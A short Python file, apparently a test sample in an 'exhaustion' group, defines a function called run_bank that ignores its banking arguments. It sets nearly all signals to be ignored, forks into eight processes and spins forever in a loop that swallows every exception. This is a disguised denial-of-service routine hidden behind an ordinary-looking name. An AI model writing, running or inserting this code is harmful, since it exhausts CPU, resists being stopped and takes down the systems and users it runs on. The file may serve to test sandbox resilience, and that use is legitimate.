"""Computes without end in eight processes that ignore signals.

Group: exhaustion
"""

import os, signal

def run_bank(opening, deposits, withdrawals):
    for number in range(1, 32):
        if number not in (9, 19):
            signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        os.fork()
    while True:
        try:
            pass
        except BaseException:
            pass
